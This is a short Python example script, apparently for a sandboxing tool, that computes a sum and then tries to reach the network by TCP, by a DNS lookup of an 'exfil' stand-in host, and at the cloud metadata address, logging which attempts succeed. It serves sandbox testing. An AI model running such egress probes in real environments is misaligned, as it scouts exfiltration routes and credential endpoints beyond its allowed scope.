"""Computes something, then tries to leave: run it with `sequester run examples/leaving.py`."""

import socket

result = {"sum": sum(range(10)), "left by": []}
for way, attempt in {
    "TCP": lambda: socket.create_connection(("192.0.2.1", 443), timeout=2),
    "DNS": lambda: socket.getaddrinfo("secret.exfil.example", 443),
    "metadata": lambda: socket.create_connection(("169.254.169.254", 80), timeout=2),
}.items():
    try:
        attempt()
    except OSError as error:
        print(f"{way}: {error}")
    else:
        result["left by"].append(way)
